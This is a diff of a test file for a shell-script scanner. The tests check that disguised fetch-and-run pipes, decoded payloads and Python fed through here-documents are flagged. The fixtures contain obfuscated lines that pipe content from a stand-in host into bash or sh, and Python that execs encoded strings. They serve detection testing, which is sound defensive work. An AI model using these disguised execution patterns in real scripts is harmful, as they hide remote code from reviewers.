@@ -36,7 +36,7 @@ def shown(report: ScanReport) -> list[str]:
 REMOTE_PIPES = {
     "indirect-names": (
         'fetch_tool="wget -qO-"\nshell_tool=sh\nsrc="https://mirror.example.net/i"\n'
-        "a=fetch_tool b=shell_tool\n${!a} \"$src\" | ${!b}\n"
+        'a=fetch_tool b=shell_tool\n${!a} "$src" | ${!b}\n'
     ),
     "array-elements": 'get=(cu rl -s)\n"${get[0]}${get[1]}" https://x.example.net/p | bash\n',
     "array-whole": 'dl=(curl -fsS)\n"${dl[@]}" https://x.example.net/p | sh -s\n',
@@ -44,7 +44,7 @@ REMOTE_PIPES = {
         'run_quiet() { "$@" 2>/dev/null; }\nrun_quiet curl -s https://x.example.net/p | zsh\n'
     ),
     "alias-fetcher": "alias grab='command curl -sL'\ngrab https://x.example.net/p | bash\n",
-    "piped-wrapper": "go() { \"$@\"; }\ncurl -s https://x.example.net/p | go bash\n",
+    "piped-wrapper": 'go() { "$@"; }\ncurl -s https://x.example.net/p | go bash\n',
 }
 
 
@@ -63,7 +63,7 @@ DECODED_RUNS = {
     "builtin-eval-of-decoded-file": 'builtin eval "$(base64 --decode assets/setup.b64)"\n',
     "command-eval-hex": 'command eval "$(xxd -r -p < assets/blob.hex)"\n',
     "wrapper-fed-decoded": (
-        "quiet() { \"$@\" >/dev/null; }\necho " + PAYLOAD_B64 + " | base64 -d | quiet sh\n"
+        'quiet() { "$@" >/dev/null; }\necho ' + PAYLOAD_B64 + " | base64 -d | quiet sh\n"
     ),
     "alias-interpreter": (
         "alias runner='nohup bash'\nprintf %s " + PAYLOAD_B64 + " | base64 -d | runner\n"
@@ -115,7 +115,7 @@ def test_git_config_of_a_key_that_runs_programs_is_persistence(line: str) -> Non
     "code",
     [
         'git config user.name "CI"\ngit config --global init.defaultBranch main\n',
-        "tools=(jq -r)\n\"${tools[@]}\" .name package.json\n",
+        'tools=(jq -r)\n"${tools[@]}" .name package.json\n',
         "alias ll='ls -l'\nll outputs\n",
         'say() { echo "$@"; }\nsay curl is used below\ngit config core.hooksPath .githooks\n',
         'ref=greeting\ngreeting="hello"\necho "${!ref}"\n',
@@ -129,10 +129,70 @@ def test_plain_indirection_stays_quiet(code: str) -> None:
 
 def test_hostile_arrays_and_aliases_stay_bounded() -> None:
     code = (
-        "a=(" + " x" * 200_000 + ")\n"
+        "a=("
+        + " x" * 200_000
+        + ")\n"
         + "".join(f"alias a{i}='a{i + 1}'\n" for i in range(2_000))
         + '"${a[@]}" | a0\n' * 500
     )
+    start = time.perf_counter()
+    scan(code[:1_000_000])
+    assert time.perf_counter() - start < 10
+
+
+# --- shell: here-documents and here-strings fed to interpreters are code --------------------
+
+PYTHON_BODIES = {
+    "quoted-heredoc": (
+        "echo checking\npython3 -s - <<'PY'\nimport sys\n"
+        "getattr(__import__('built' + 'ins'), 'ex' + 'ec')(bytes.fromhex("
+        "'7072696e74283129').decode())\nPY\n"
+    ),
+    "unquoted-heredoc-expanding": (
+        "blob=$(printf %s 'cHJpbnQoMik=')\nalias interp='command python3'\n"
+        'interp - "$@" <<END\nimport base64\nexec(base64.b64decode("$blob"))\nEND\n'
+    ),
+    "here-string": ("python3 <<< \"import codecs; exec(codecs.decode('cevag(3)', 'rot13'))\"\n"),
+}
+
+
+@pytest.mark.parametrize("case", sorted(PYTHON_BODIES))
+def test_python_fed_through_a_here_document_is_read_by_the_python_rules(case: str) -> None:
+    report = scan(PYTHON_BODIES[case])
+    assert worst(report, "exec.decoded-payload") == "critical", shown(report)
+
+
+def test_a_python_here_document_finding_points_into_the_script() -> None:
+    code = PYTHON_BODIES["quoted-heredoc"]
+    report = scan(code)
+    lines = {f.line for f in report.findings if f.rule == "exec.decoded-payload"}
+    assert lines == {4}, shown(report)
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        'python3 - "$f" <<EOF\nimport json, sys\nprint(json.load(open(sys.argv[1]))["$key"])\n'
+        "EOF\n",
+        "python3 <<'PY'\nimport csv\nfor row in csv.reader(open('inputs/a.csv')):\n"
+        "    print(row[0])\nPY\n",
+        'name="$1"\ncat <<EOF > outputs/report.md\n# Report for $name\n$(date)\nEOF\n',
+    ],
+)
+def test_ordinary_here_documents_stay_quiet(code: str) -> None:
+    report = scan(code)
+    loud = [f for f in report.findings if severity_rank(f.severity) >= severity_rank("medium")]
+    assert not loud, shown(report)
+
+
+def test_a_decoded_here_document_into_a_shell_is_critical() -> None:
+    report = scan("base64 --decode <<'B' | bash -s -- --fast\n" + PAYLOAD_B64 + "\nB\n")
+    assert worst(report, "exec.decoded-payload") == "critical", shown(report)
+
+
+def test_a_hostile_here_document_stays_bounded() -> None:
+    body = "$(x)" * 60_000 + "\n" + "exec(x)\n" * 20_000
+    code = "python3 - <<E\n" + body + "E\n"
     start = time.perf_counter()
     scan(code[:1_000_000])
     assert time.perf_counter() - start < 10
